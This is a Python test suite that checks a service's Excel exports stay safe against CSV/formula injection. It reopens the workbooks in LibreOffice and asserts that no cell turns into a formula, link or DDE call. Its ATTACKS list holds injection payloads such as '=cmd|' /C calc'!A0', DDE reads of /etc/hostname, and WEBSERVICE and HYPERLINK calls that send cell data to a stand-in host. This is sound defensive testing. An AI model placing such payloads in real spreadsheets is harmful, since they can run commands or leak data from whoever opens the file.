"""LibreOffice as the judge: it opens our workbooks, computes anew and saves them; every text is still the same text, no
cell is a formula, and what it saved is the same account."""

import io
import re
import secrets
import zipfile
from collections.abc import Iterator, Mapping
from datetime import date, datetime
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import neo4j
import openpyxl
import pytest
from defusedxml.ElementTree import fromstring
from starlette.testclient import TestClient
from starlette.types import ASGIApp

from service.demo import CURRENCY, demo_sheets
from service.domain.exporting.tables import table
from service.domain.importing.plan import plan_import
from service.domain.importing.tables import Sheet
from service.domain.snapshot import Snapshot
from service.exporting.workbook import workbook
from service.graph.database import Graph
from service.importing.columns import recognise_all
from service.importing.files import read_tables
from tests.engines import TestEngine
from tests.exporting.accounts import MADE_AT, planned, written
from tests.importing.fold import empty, fold, ids
from tests.office import saved_as
from tests.story import ALWAYS, Story
from tests.webapp import TODAY, app_on, browser, script

pytestmark = pytest.mark.graph

ATTACKS = [
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", "=SUM(1;2)", "＝1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A2,"見る")', '=WEBSERVICE("http://x.example/")',
    '=DDE("soffice";"/etc/hostname";"A1")', "=soffice|'/etc/hostname'!A1", '=IMPORTXML("http://x.example/","//a")',
    "='file:///etc/hostname'#$Sheet1.A1", "{=1+1}", "'=1+1", "of:=1+1", "msoxl:=1+1", "=2+5+cmd|' /C calc'!A0 ; x",
    "http://x.example/", "\\\\x.example\\share", "TRUE", "007", "1E5", "2026-04-01", "12:30", "50%", "_x003D_1",
]  # fmt: skip
EXACTLY = [
    *ATTACKS,
    "#REF!",
    "\t=1+1",
    " =1+1",
    "=1\n+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "神" + chr(0xFA19),
    "a  b",
]
"""Also what no import would keep as it is; a workbook does."""
COMPUTED = {"=40+2": "42", '=CONCATENATE("a","b")': "ab"}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("office")


@pytest.fixture(scope="module")
def app(graph: Graph, folder: Path) -> ASGIApp:
    return app_on(graph, folder / "data")


@pytest.fixture(scope="module")
def client(app: ASGIApp) -> TestClient:
    return script(app)


@pytest.fixture(scope="module")
def account(engine: TestEngine) -> str:
    """An account in which every text a user may write is an attack on a spreadsheet."""
    story = Story(f"=1+1 {secrets.token_hex(4)}", account_id=f"office-{secrets.token_hex(8)}")
    us = story.member("@SUM(A1)", "=1+1", team=ALWAYS, role="+1+1")
    for n, text in enumerate(ATTACKS):
        post = story.post(text, story.department(f"{text} {n}".replace("/", "")), line_rank=52)
        person = story.person(
            text, post, kana=text, romaji=text, phone=text, note=f"{text}\n{text}", grade_title="=1+1"
        )
        deal = story.deal(text, 50_000_000 + n)
        story.role(person, deal, "promoter")
        story.key(person, text)
        story.stance(person, us, "support", date(2026, 4, 1), evidence=text, toward=deal)
        story.meeting(date(2026, 4, 1), [us], [person], subject=text, about=deal)
    with neo4j.GraphDatabase.driver(engine.uri, auth=(engine.user, engine.password)) as driver:
        story.load(driver)
    return story.account


def demo(name: str) -> Snapshot:
    """A demo account as plain data."""
    snapshot = empty(name, CURRENCY[name])
    tables = recognise_all(read_tables(demo_sheets(TODAY)[name].files()), {})
    return fold(snapshot, plan_import(tables, snapshot, as_of=TODAY, new_id=ids()).batch)


@pytest.fixture(scope="module")
def demos() -> dict[str, Snapshot]:
    return {currency: demo(name) for name, currency in CURRENCY.items()}


@pytest.fixture(scope="module")
def ours(app: ASGIApp, account: str, demos: Mapping[str, Snapshot]) -> dict[str, bytes]:
    """Every kind of workbook we make, in both languages."""
    rows: list[dict[str, Any]] = [{"name": t, "title": t, "note": t, "start": date(2026, 4, 1)} for t in EXACTLY]
    found = {
        "exactly": workbook(
            [table(Sheet.ORG, rows)], title="=2+2", told=[("=3", t) for t in EXACTLY], locale="ja", made_at=MADE_AT
        )
    }
    for locale in ("ja", "en"):
        found |= {f"demo-{c}-{locale}": written(s, locale, day=TODAY)[1] for c, s in demos.items()}
        for kind, path in (
            ("account", f"/accounts/{account}/export.xlsx"),
            ("gaps", f"/accounts/{account}/gaps.xlsx"),
            ("template", f"/template.xlsx?locale={locale}"),
        ):
            answer = browser(app, locale).get(path)
            assert answer.status_code == 200, answer.text
            found[f"{kind}-{locale}"] = answer.content
    return found


@pytest.fixture(scope="module")
def with_formulas() -> bytes:
    """A workbook with formulas that nobody has computed yet: a judge that sees none here sees none anywhere."""
    book, out = openpyxl.Workbook(), io.BytesIO()
    for n, formula in enumerate(COMPUTED, start=1):
        book.worksheets[0].cell(n, 1).value = formula
    book.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def again(ours: dict[str, bytes], with_formulas: bytes, folder: Path) -> dict[str, bytes]:
    return saved_as("xlsx", {**ours, "formulas": with_formulas}, folder)


@pytest.fixture(scope="module")
def flat(ours: dict[str, bytes], with_formulas: bytes, folder: Path) -> dict[str, str]:
    made = saved_as("fods", {**ours, "formulas": with_formulas}, folder)
    return {name: content.decode() for name, content in made.items()}


def written_in(content: bytes) -> dict[str, list[str]]:
    """What stands in the cells of each sheet of a workbook, row by row; empty cells left out."""
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=True)
    return {
        sheet.title: [_plain(v) for row in sheet.iter_rows(values_only=True) for v in row if v is not None]
        for sheet in book.worksheets
    }


def _plain(value: Any) -> str:
    if isinstance(value, datetime):
        return value.date().isoformat()
    return value.replace("_x005F_", "_") if isinstance(value, str) else f"{float(value):.9g}"


OFFICE, TABLE, TEXT = (f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("office", "table", "text"))


def shown_in(flat: str) -> dict[str, list[str]]:
    """What LibreOffice itself has in the cells, told in the same way."""
    return {str(sheet.get(f"{TABLE}name")): list(_values(sheet)) for sheet in fromstring(flat).iter(f"{TABLE}table")}


def _values(sheet: Element) -> Iterator[str]:
    for row in sheet.iter(f"{TABLE}table-row"):
        values: list[str] = []
        for cell in row.iter(f"{TABLE}table-cell"):
            if cell.get(f"{OFFICE}value-type"):
                values += [_value(cell)] * int(cell.get(f"{TABLE}number-columns-repeated", "1"))
        if values:
            yield from values * int(row.get(f"{TABLE}number-rows-repeated", "1"))


def _value(cell: Element) -> str:
    kind = cell.get(f"{OFFICE}value-type")
    if kind == "date":
        return str(cell.get(f"{OFFICE}date-value"))
    if kind != "string":
        return f"{float(str(cell.get(f'{OFFICE}value'))):.9g}"
    return "\n".join("".join(_text(paragraph)) for paragraph in cell.findall(f"{TEXT}p"))


def _text(of: Element) -> Iterator[str]:
    if of.tag == f"{TEXT}s":
        yield " " * int(of.get(f"{TEXT}c", "1"))
    elif of.tag == f"{TEXT}tab":
        yield "\t"
    elif of.tag == f"{TEXT}line-break":
        yield "\n"
    yield of.text or ""
    for inner in of:
        yield from _text(inner)
        yield inner.tail or ""


def test_the_judge_computes_what_is_a_formula(again: dict[str, bytes], flat: dict[str, str]) -> None:
    assert written_in(again["formulas"]) == {"Sheet": list(COMPUTED.values())}
    assert flat["formulas"].count("table:formula=") == len(COMPUTED)


def test_no_cell_is_a_formula_or_a_link(ours: dict[str, bytes], again: dict[str, bytes], flat: dict[str, str]) -> None:
    for name in ours:
        assert not re.search(r'table:formula=|<text:a |<table:dde|xlink:href="', flat[name]), name
        with zipfile.ZipFile(io.BytesIO(again[name])) as package:
            for part in package.namelist():
                assert not re.search(r"externalLink|vbaProject|connections", part), (name, part)
                if part.startswith("xl/worksheets/sheet"):
                    assert not re.search(rb"<f[ >/]|<hyperlink", package.read(part)), (name, part)


def test_every_text_is_there_letter_for_letter(ours: dict[str, bytes], flat: dict[str, str]) -> None:
    for name, content in ours.items():
        want, found = written_in(content), shown_in(flat[name])
        assert list(found) == list(want)
        for sheet, texts in want.items():
            assert found[sheet] == texts, name
    assert [t for t in EXACTLY if shown_in(flat["exactly"])["組織図"].count(t) < 3] == []
    for kind in ("account-ja", "account-en", "gaps-ja", "gaps-en"):
        assert set(ATTACKS) - {t for texts in shown_in(flat[kind]).values() for t in texts} == set(), kind


def test_what_it_saved_is_the_same_account(
    client: TestClient, account: str, demos: Mapping[str, Snapshot], ours: dict[str, bytes], again: dict[str, bytes]
) -> None:
    for locale in ("ja", "en"):
        for currency, snapshot in demos.items():
            plan = planned(snapshot, again[f"demo-{currency}-{locale}"], TODAY)
            assert not plan.batch, (currency, locale, plan.changed)
            assert not plan.skips
    imported(client, account, ours["account-ja"])  # writes the search keys, which a story only stands in for
    for locale in ("ja", "en"):
        report = imported(client, account, again[f"account-{locale}"])
        assert (report["change_id"], report["skipped"]) == (None, []), locale


def imported(client: TestClient, account: str, content: bytes) -> dict[str, Any]:
    base, file = f"/api/v1/accounts/{account}/imports", [("files", ("again.xlsx", content))]
    preview = client.post(base, files=file, data={"as_of": TODAY.isoformat()}).json()
    applied = client.post(f"{base}/{preview['import_id']}/apply", json={"token": preview["token"]})
    assert applied.status_code == 200, applied.text
    report: dict[str, Any] = applied.json()
    return report
